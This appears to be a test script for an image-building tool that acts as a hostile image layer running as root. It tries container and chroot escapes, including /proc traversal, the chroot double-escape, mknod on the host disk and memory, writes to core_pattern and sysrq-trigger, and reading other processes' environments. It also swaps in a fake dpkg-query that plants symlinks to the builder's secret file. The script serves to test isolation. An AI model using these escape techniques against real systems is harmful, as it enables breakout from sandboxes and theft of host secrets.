#!/usr/bin/env bash
# What a layer of a hostile image tries, as root in a bake: _attack.sh SECRET PORT DISK. SECRET is a file of the builder's that no path of the image
# leads to, PORT one of its loopback, DISK the number MAJOR:MINOR of the disk that SECRET is on. A line in /root/escaped for each attempt that
# has succeeded; it exists when all have been made.
set -Eeuo pipefail
# Ignore the caller's shell settings: BASH_ENV, functions, CDPATH (bash(1), -p).
[[ $- == *p* ]] || exec bash -p -- "$0" "$@"

readonly secret=$1 port=$2 disk=$3
shopt -s nullglob

escaped() { printf '%s\n' "$*" >>/root/escaped.new; }

by_proc() {
  local place
  for place in /proc/[0-9]*/{root,cwd} /proc/[0-9]*/fd/*; do
    if [[ -e $place$secret ]]; then escaped "$place leads to the builder's files"; fi
  done
  for place in /proc/[0-9]*/exe; do
    if [[ $(stat -L -c %d:%i "$place" 2>/dev/null) == "$(stat -L -c %d:%i /proc/self/exe)" ]]; then continue; fi
    if (: >>"$place") 2>/dev/null; then escaped "$place can be written to"; fi
  done
}

by_chroot() {
  mkdir -p /root/cell
  # Whoever is outside of the root that he has, climbs to the real one.
  if perl -e '
    chroot "/root/cell" or exit 1; chdir ".." for 1 .. 64; chroot "." or exit 1; exit(-e $ARGV[0] ? 0 : 1)' "$secret" 2>/dev/null; then
    escaped 'two changes of root lead to the builder'
  fi
}

by_device() {
  local folder
  for folder in /root /dev /run /tmp /var/cache/apt; do
    rm -f "$folder/disk"
    mknod "$folder/disk" b "${disk%:*}" "${disk#*:}" 2>/dev/null || continue
    if head -c 1 "$folder/disk" >/dev/null 2>&1; then escaped "the builder's disk can be read by $folder/disk"; fi
    rm -f "$folder/disk"
    mknod "$folder/memory" c 1 1 2>/dev/null || continue
    if (: <"$folder/memory") 2>/dev/null; then escaped "the builder's memory can be opened by $folder/memory"; fi
    rm -f "$folder/memory"
  done
  if head -c 1 /proc/kcore >/dev/null 2>&1 && [[ -n $(head -c 1 /proc/kcore | tr -d '\0') ]]; then escaped 'the kernel can be read'; fi
}

by_kernel() {
  local file
  mkdir -p /root/mount
  if mount -t tmpfs tmpfs /root/mount 2>/dev/null; then escaped 'a file system can be mounted'; fi
  if unshare --user --map-root-user --mount true 2>/dev/null; then escaped 'a namespace of users can be made'; fi
  for file in /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sysrq-trigger /sys/power/state /sys/kernel/uevent_helper; do
    if (: >>"$file") 2>/dev/null; then escaped "$file can be written to"; fi
  done
  while read -r name value; do
    # All but those by which files and users are made: CAP_SYS_ADMIN, CAP_SYS_MODULE, CAP_SYS_RAWIO, CAP_SYS_PTRACE, CAP_SYS_BOOT, CAP_SYS_TIME …
    if [[ $name == CapBnd: ]] && ((16#$value & ~16#a80405fb)); then escaped "capabilities $value"; fi
  done </proc/self/status
}

# A mode that the builder's own device would get, too; the test looks at it.
by_mode() {
  chmod 0600 /dev/full || true
}

by_processes() {
  local file words
  for file in /proc/[0-9]*/cmdline; do
    words=$(tr '\0' ' ' <"$file" 2>/dev/null || true)
    if [[ $words == *packer*build* || $words == *qemu-storage-daemon* ]]; then escaped "the builder's process: $words"; fi
  done
  for file in /proc/[0-9]*/environ; do
    if tr '\0' '\n' <"$file" 2>/dev/null | while read -r words; do [[ $words != BOXHOUND_STORE=* ]] || exit 7; done; then :; else
      escaped "the builder's environment in $file"
    fi
  done
}

by_network() {
  if (exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null; then escaped 'the builder can be reached on its loopback'; fi
}

main() {
  by_proc
  by_chroot
  by_device
  by_mode
  by_kernel
  by_processes
  by_network
  touch /root/escaped.new
  mv /root/escaped.new /root/escaped
  # Where the builder fetches the list of packages, and notes of the steps, a link into its own files; dpkg-query comes last.
  printf '#!/bin/bash\nln -sf %q /run/boxhound/packages.tsv\nln -sf %q /run/boxhound/steps.tsv\nprintf "installed\\thostile\\t1\\thostile\\n"\n' \
    "$secret" "$secret" >/usr/bin/dpkg-query.new
  chmod 755 /usr/bin/dpkg-query.new
  mv /usr/bin/dpkg-query.new /usr/bin/dpkg-query
  # Nobody waits for what stays behind, and the bake ends all the same.
  (trap '' TERM HUP && exec setsid sleep 500) &
}

main
